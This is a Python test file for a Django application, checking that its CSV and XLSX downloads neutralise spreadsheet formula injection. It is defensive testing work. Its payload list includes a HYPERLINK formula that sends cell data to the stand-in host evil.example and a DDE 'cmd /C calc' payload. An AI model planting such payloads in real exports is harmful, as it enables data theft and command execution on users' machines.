"""Every CSV and XLSX download neutralises text that a spreadsheet would run as a formula.

CSV quotes it with an apostrophe; XLSX writes it as a text cell, exactly as typed.

One test per download URL fills the names it shows with formulas; one test fails when a download is added
to the code without being listed here, and one when a module writes a spreadsheet without core/exports.py.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from candidates.models import EnrolmentStatus
from candidates.tests.factories import CandidateFactory, EnrolmentFactory
from core.exports import FORMULA_TRIGGERS
from pilots.models import PartnerRole
from pilots.tests.factories import (
    CohortFactory,
    OrganisationFactory,
    PilotFactory,
    PilotPartnerFactory,
    RegionFactory,
)

ROOT = Path(settings.BASE_DIR)
APPS = ("candidates", "core", "employers", "pilots", "reports", "start")
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1"]

# Where the code makes a download, and the URL that tests it (or why none needs to).
EXPORT_CALL_SITES = {
    ("candidates/views/candidates.py", "csv_response"): "candidates:candidate-export csv",
    ("candidates/views/candidates.py", "xlsx_response"): "candidates:candidate-export xlsx",
    ("candidates/views/imports.py", "csv_response"): "the import template: fixed text, no user data",
    ("candidates/views/imports.py", "xlsx_response"): "the import template: fixed text, no user data",
    ("reports/exports.py", "csv_response"): "reports:dashboard-csv",
    ("reports/exports.py", "xlsx_bytes"): "reports.exports.evaluation_xlsx: the dashboard-xlsx workbook",
    ("reports/exports.py", "xlsx_response"): "reports:dashboard-xlsx",
}
_CALL = re.compile(r"\b(csv_response|xlsx_response|xlsx_bytes)\(")
# Writing a spreadsheet by hand would skip neutralise(); reading one (the import) is fine.
_HAND_WRITTEN = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
SPREADSHEET_WRITERS = {"core/exports.py"}


def _project_sources():
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if "/tests/" in relative or "/migrations/" in relative:
                continue
            yield relative, path.read_text(encoding="utf-8")


def test_every_download_call_site_is_listed():
    found = set()
    for relative, source in _project_sources():
        if relative == "core/exports.py":
            continue
        found |= {(relative, match[1]) for match in _CALL.finditer(source)}
    assert found - set(EXPORT_CALL_SITES) == set(), "a new download: add a test for its URL here"
    assert set(EXPORT_CALL_SITES) - found == set(), "a listed download no longer exists"


def test_no_module_writes_a_spreadsheet_without_neutralising():
    offenders = [
        relative
        for relative, source in _project_sources()
        if relative not in SPREADSHEET_WRITERS and _HAND_WRITTEN.search(source)
    ]
    assert offenders == []


# --- The downloads ------------------------------------------------------------------------------------------


def _is_safe(value) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS))


def csv_cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


def assert_text_cells(cells, injections) -> None:
    """No formula cell (xlsx_cells checks that) and the text exactly as typed, without an apostrophe."""
    text = "\n".join(cell for cell in cells if isinstance(cell, str))
    for injection in injections:
        assert injection in text, f"{injection!r} is missing from the download"
        assert "'" + injection not in text, f"{injection!r} has an apostrophe"


def assert_neutralised(cells, injections) -> None:
    flat = [cell for row in cells for cell in (row if isinstance(row, list) else [row])]
    assert all(_is_safe(cell) for cell in flat), [cell for cell in flat if not _is_safe(cell)]
    text = "\n".join(str(cell) for cell in flat if cell is not None)
    for injection in injections:
        assert "'" + injection in text, f"{injection!r} is missing from the download"


@pytest.fixture
def poisoned(organisation, adviser):
    """A pilot, cohort, partner and candidate whose names are formulas."""
    pilot = PilotFactory(name=INJECTIONS[0], lead_organisation=organisation, region=RegionFactory(name=INJECTIONS[1]))
    PilotPartnerFactory(
        pilot=pilot, organisation=OrganisationFactory(name=INJECTIONS[3]), role=PartnerRole.TRAINING_PARTNER
    )
    cohort = CohortFactory(pilot=pilot, name=INJECTIONS[4])
    candidate = CandidateFactory(
        first_name=INJECTIONS[0],
        last_name=INJECTIONS[1],
        city=INJECTIONS[2],
        last_name_prefix=INJECTIONS[3],
        adviser=adviser,
    )
    EnrolmentFactory(candidate=candidate, cohort=cohort, status=EnrolmentStatus.SELECTED)
    return pilot


def _get(client, user, url):
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200
    return response


def test_candidate_export_csv_neutralises_names(client, adviser, poisoned):
    response = _get(client, adviser, reverse("candidates:candidate-export", kwargs={"fmt": "csv"}))
    assert_neutralised(csv_cells(response), INJECTIONS)


def test_candidate_export_xlsx_neutralises_names(client, adviser, poisoned):
    response = _get(client, adviser, reverse("candidates:candidate-export", kwargs={"fmt": "xlsx"}))
    assert_text_cells(xlsx_cells(response), INJECTIONS)


def test_dashboard_xlsx_neutralises_pilot_region_and_partner_names(client, coordinator, poisoned):
    response = _get(client, coordinator, reverse("reports:dashboard-xlsx", kwargs={"slug": poisoned.slug}))
    assert_text_cells(xlsx_cells(response), [INJECTIONS[0], INJECTIONS[1], INJECTIONS[3]])


def test_dashboard_csv_has_no_cell_a_spreadsheet_would_run(client, coordinator, poisoned):
    # The funnel shows stages and numbers only; what it shows must still be safe.
    response = _get(client, coordinator, reverse("reports:dashboard-csv", kwargs={"slug": poisoned.slug}))
    assert_neutralised(csv_cells(response), [])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_template_has_no_cell_a_spreadsheet_would_run(client, adviser, fmt):
    response = _get(client, adviser, reverse("candidates:import-template", kwargs={"fmt": fmt}))
    if fmt == "csv":
        assert_neutralised(csv_cells(response), [])
    else:
        assert_text_cells(xlsx_cells(response), [])
